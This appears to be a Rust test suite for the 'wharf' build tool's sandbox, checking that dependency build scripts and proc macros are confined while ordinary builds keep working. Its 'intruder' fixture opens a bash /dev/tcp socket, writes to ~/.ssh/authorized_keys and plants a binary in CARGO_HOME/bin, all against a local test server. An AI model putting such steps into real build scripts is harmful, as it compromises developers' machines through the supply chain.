//! What packages may not do while they are built, and that what is ordinary goes on working.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, reason = "a panic is how a test fails")]

use std::net::TcpListener;

use wharf_testkit::{Project, Sandbox};

fn world() -> Sandbox {
    Sandbox::new().with_wharf(env!("CARGO_BIN_EXE_wharf"))
}

/// Somebody who offers a program for download.
struct Server(TcpListener);

impl Server {
    fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Server(listener)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }

    fn was_reached(&self) -> bool {
        self.0.accept().is_ok()
    }
}

const WITH_SCRIPT: &str = "build = \"build.rs\"";

/// A build script that tries to fetch a program and to settle in the user's home; `outcome` is what it does with the
/// results.
fn intruder(port: u16, outcome: &str) -> String {
    format!(
        r#"use std::path::Path;
        fn main() {{
            let home = std::env::var("HOME").unwrap();
            let cargo_home = std::env::var("CARGO_HOME").unwrap();
            let fetched = std::net::TcpStream::connect(("127.0.0.1", {port}));
            let by_shell = std::process::Command::new("bash")
                .args(["-c", "exec 3<>/dev/tcp/127.0.0.1/{port}"])
                .status().map(|status| assert!(!status.success()));
            let keys = std::fs::write(Path::new(&home).join(".ssh/authorized_keys"), "key");
            let program = std::fs::write(Path::new(&cargo_home).join("bin/helper"), "echo helped");
            {outcome}
        }}"#
    )
}

/// An app that uses `parser`, whose newest patch release pulls in `helper`.
fn attacked<'s>(world: &'s Sandbox, outcome: &str, server: &Server) -> Project<'s> {
    std::fs::create_dir_all(world.root().join("home/.ssh")).unwrap();
    std::fs::create_dir_all(world.cargo_home(wharf_testkit::Tool::Wharf).join("bin")).unwrap();
    world.package("parser 1.0.0").publish();
    let project = world
        .project("app")
        .package("[dependencies]\nparser = \"1\"")
        .file("src/main.rs", "fn main() { parser::parse() }")
        .build();
    project.write("src/main.rs", "fn main() {}");
    project.wharf("build").succeeds();
    world
        .package("helper 0.1.0")
        .package_keys(WITH_SCRIPT)
        .file("build.rs", intruder(server.port(), outcome))
        .file("src/lib.rs", "")
        .publish();
    world.package("parser 1.0.1").tables("[dependencies]\nhelper = \"0.1\"").publish();
    project.wharf("update").succeeds();
    project
}

fn is_untouched(world: &Sandbox) -> bool {
    let home = world.root().join("home/.ssh/authorized_keys");
    !home.exists() && !world.cargo_home(wharf_testkit::Tool::Wharf).join("bin/helper").exists()
}

#[test]
fn a_patch_release_that_downloads_a_program_is_stopped() {
    let (world, server) = (world(), Server::start());
    let project =
        attacked(&world, "fetched.unwrap(); by_shell.unwrap(); keys.unwrap(); program.unwrap();", &server);
    let built = project.wharf("build").exits_with(101);
    let built = built
        .says("failed to run custom build command for `helper v0.1.0")
        .says("the sandbox stopped the build script of `helper v0.1.0`")
        .says("tried to connect to the network: `")
        .says("tried to write to `[ROOT]/home/.ssh/authorized_keys`")
        .says("/bin/helper`")
        .says("[grants]")
        .says("\"helper@0.1.0\" = { network = true, write = [");
    assert!(built.stderr.contains("~/.ssh"), "{}", built.stderr);
    assert!(!server.was_reached());
    assert!(is_untouched(&world));
}

#[test]
fn one_that_hides_its_failure_is_told_of_each_time() {
    let (world, server) = (world(), Server::start());
    let project = attacked(&world, "let _ = (fetched, by_shell, keys, program);", &server);
    for _ in 0..2 {
        project
            .wharf("build")
            .succeeds()
            .says("the sandbox stopped the build script of `helper v0.1.0`, which did without")
            .says("tried to connect to the network")
            .says("tried to write to `[ROOT]/home/.ssh/authorized_keys`");
    }
    assert!(!server.was_reached());
    assert!(is_untouched(&world));
}

#[test]
fn grants_allow_what_they_name() {
    let (world, server) = (world(), Server::start());
    let outcome = "fetched.unwrap(); keys.unwrap(); let _ = (by_shell, program);";
    let outcome = format!("if std::env::var_os(\"TRY\").is_none() {{ {outcome} }}");
    let script = intruder(server.port(), &outcome).replace("assert!(!status.success())", "drop(status)");
    std::fs::create_dir_all(world.root().join("home/.ssh")).unwrap();
    world
        .package("helper 0.1.0")
        .package_keys(WITH_SCRIPT)
        .file("build.rs", script)
        .file("src/lib.rs", "")
        .publish();
    let project = world
        .project("app")
        .package("[dependencies]\nhelper = \"0.1\"")
        .file("src/main.rs", "fn main() {}")
        .build();
    project.write("wharf-grants.toml", "[grants]\n\"helper@0.2\" = { network = true }\n");
    project.wharf("build").exits_with(101).says("the sandbox stopped the build script of `helper v0.1.0`");
    let grant = "[grants]\n\"helper@0.1\" = { network = true, write = [\"~/.ssh\"] }\n";
    project.write("wharf-grants.toml", grant);
    project.wharf("build").succeeds();
    assert!(server.was_reached());
    assert!(world.root().join("home/.ssh/authorized_keys").exists());
    project.write("wharf-grants.toml", "[grants]\nhelper = { net = true }\n");
    project
        .wharf("build")
        .exits_with(101)
        .says("failed to read grants from `[ROOT]/work/app/wharf-grants.toml`");
}

#[test]
fn procedural_macros_are_confined_too() {
    let (world, server) = (world(), Server::start());
    let code = format!(
        "#[proc_macro] pub fn call(_: proc_macro::TokenStream) -> proc_macro::TokenStream {{
            let fetched = std::net::TcpStream::connect((\"127.0.0.1\", {}));
            let written = std::fs::write(std::env::var(\"HOME\").unwrap() + \"/written\", \"\");
            format!(\"({{}}, {{}})\", fetched.is_ok(), written.is_ok()).parse().unwrap()
        }}",
        server.port()
    );
    world.package("caller 1.0.0").tables("[lib]\nproc-macro = true").file("src/lib.rs", code).publish();
    let project = world
        .project("app")
        .package("[dependencies]\ncaller = \"1\"")
        .file("src/main.rs", "fn main() { assert_eq!(caller::call!(), (false, false)); }")
        .build();
    project
        .wharf("run")
        .succeeds()
        .says("the sandbox stopped the compiler of `app v0.1.0")
        .says("tried to connect to the network");
    assert!(!server.was_reached());
}

#[test]
fn ordinary_build_scripts_work() {
    let world = world();
    let script = r#"
        use std::process::Command;
        fn run(command: &mut Command) -> String {
            let output = command.output().unwrap();
            assert!(output.status.success(), "{command:?}: {}", String::from_utf8_lossy(&output.stderr));
            String::from_utf8(output.stdout).unwrap()
        }
        fn main() {
            let out = std::env::var("OUT_DIR").unwrap();
            let temp = std::env::temp_dir();
            assert!(temp != std::path::Path::new("/tmp") && temp.is_dir());
            std::fs::write(temp.join("x"), "x").unwrap();
            std::fs::rename(temp.join("x"), format!("{out}/x")).unwrap();
            // A C compiler.
            std::fs::write(format!("{out}/seven.c"), "int seven(void) { return 7; }").unwrap();
            run(Command::new("cc").args(["-c", "seven.c", "-o", "seven.o"]).current_dir(&out));
            run(Command::new("ar").args(["crs", "libseven.a", "seven.o"]).current_dir(&out));
            // A probe of the compiler, as `autocfg` does it.
            std::fs::write(format!("{out}/probe.rs"), "pub fn probe() {}").unwrap();
            let rustc = std::env::var("RUSTC").unwrap();
            run(Command::new(rustc).args(["--crate-type=lib", "--emit=metadata", "--out-dir", &out])
                .arg(format!("{out}/probe.rs")));
            // The build tool itself.
            let cargo = std::env::var("CARGO").unwrap();
            let metadata = run(Command::new(cargo).args(["metadata", "--format-version=1", "--no-deps", "--offline"]));
            assert!(metadata.contains("\"name\":\"app\""));
            // `make` with several jobs.
            std::fs::write(format!("{out}/Makefile"), "all: a b c\n%:\n\t@echo made > $@ < /dev/null\n").unwrap();
            run(Command::new("make").args(["-C", &out]).env("MAKEFLAGS", std::env::var("CARGO_MAKEFLAGS").unwrap()));
            // Its own package.
            std::fs::write("src/generated.rs", "pub const SEVEN: i32 = 7;").unwrap();
            println!("cargo::rustc-link-lib=static=seven\ncargo::rustc-link-search={out}");
            println!("cargo::rerun-if-changed=build.rs");
        }"#;
    let main = "mod generated; unsafe extern \"C\" { safe fn seven() -> i32; }
        fn main() { assert_eq!(seven(), generated::SEVEN); }";
    let project = world.project("app").package("").file("build.rs", script).file("src/main.rs", main).build();
    let ran = project.wharf("run").succeeds();
    assert!(!ran.stderr.contains("sandbox"), "{}", ran.stderr);
    let again = project.wharf("build -v").succeeds();
    assert!(!again.stderr.contains("Running"), "{}", again.stderr);
    // What it wrote into its package is a part of what it made.
    std::fs::remove_file(project.directory().join("src/generated.rs")).unwrap();
    project.wharf("run").succeeds();
}

#[test]
fn scripts_do_not_choose_what_compilers_load() {
    let world = world();
    let project = world
        .project("app")
        .package("")
        .file(
            "build.rs",
            "fn main() { println!(\"cargo::rustc-env=LD_PRELOAD=/nonexistent.so\\ncargo::rustc-env=PLAIN=1\"); }",
        )
        .file("src/main.rs", "fn main() { assert_eq!((option_env!(\"LD_PRELOAD\"), env!(\"PLAIN\")), (None, \"1\")); }")
        .build();
    let built = project.wharf("build").succeeds();
    let built =
        built.says("the build script of `app v0.1.0 ([ROOT]/work/app)` sets `LD_PRELOAD` for compilers");
    assert!(!built.stderr.contains("ld.so"), "{}", built.stderr);
}

#[test]
fn what_a_build_script_reads_counts_though_it_does_not_say_so() {
    let world = world();
    let script = r#"fn main() {
        let value = std::fs::read_to_string("../shared/value.txt").unwrap();
        let more = std::fs::read_to_string("../shared/more.txt").unwrap_or_default();
        println!("cargo::rustc-env=VALUE={}{}", value.trim(), more.trim());
        println!("cargo::rerun-if-changed=build.rs");
    }"#;
    let project = world
        .project("app")
        .file("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"3\"\n")
        .file("app/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n")
        .file("app/build.rs", script)
        .file("app/src/main.rs", "fn main() { print!(\"{}\", env!(\"VALUE\")) }")
        .file("shared/value.txt", "one")
        .build();
    assert_eq!(project.wharf("run").succeeds().stdout, "one");
    project.write("shared/value.txt", "two");
    assert_eq!(project.wharf("run").succeeds().stdout, "two");
    project.write("shared/more.txt", "!");
    assert_eq!(project.wharf("run").succeeds().stdout, "two!");
    let again = project.wharf("build -v").succeeds();
    assert!(!again.stderr.contains("Running"), "{}", again.stderr);
}

#[test]
fn levels() {
    let (world, server) = (world(), Server::start());
    let outcome = "fetched.unwrap(); let _ = (by_shell, keys, program);";
    let script = intruder(server.port(), outcome).replace("assert!(!status.success())", "drop(status)");
    let project = world
        .project("app")
        .package("")
        .file("build.rs", &script)
        .file("src/main.rs", "fn main() {}")
        .build();
    project.wharf("build").exits_with(101).says("tried to connect to the network");
    project.write(".cargo/config.toml", "[wharf]\nsandbox = \"none\"\n");
    project.wharf("build").exits_with(101).says("invalid value of `wharf.sandbox`");
    project.write(".cargo/config.toml", "[wharf]\nsandbox = \"strict\"\n");
    project.wharf("build").exits_with(101).says("tried to connect to the network");
    project.write(".cargo/config.toml", "[wharf]\nsandbox = \"off\"\n");
    project.wharf("build").succeeds();
    assert!(server.was_reached());
}

#[test]
fn strictly_confined_scripts_do_not_read_the_home() {
    let world = world();
    std::fs::write(world.root().join("home/secret"), "secret").unwrap();
    let script = r#"fn main() {
        let secret = std::fs::read_to_string(std::env::var("HOME").unwrap() + "/secret");
        println!("cargo::rustc-env=SECRET={}", secret.unwrap_or_default());
        let out = std::env::var("OUT_DIR").unwrap();
        std::fs::write(format!("{out}/a.c"), "int a;").unwrap();
        assert!(std::process::Command::new("cc").args(["-c", "a.c"]).current_dir(out).status().unwrap().success());
    }"#;
    let project = world
        .project("app")
        .package("[dependencies]\nleaf = \"1\"")
        .file("build.rs", script)
        .file("src/main.rs", "fn main() { print!(\"{}\", env!(\"SECRET\")) }")
        .build();
    world.publish("leaf 1.0.0");
    assert_eq!(project.wharf("run").succeeds().stdout, "secret");
    project.write(".cargo/config.toml", "[wharf]\nsandbox = \"strict\"\n");
    assert_eq!(project.wharf("run").succeeds().stdout, "");
}
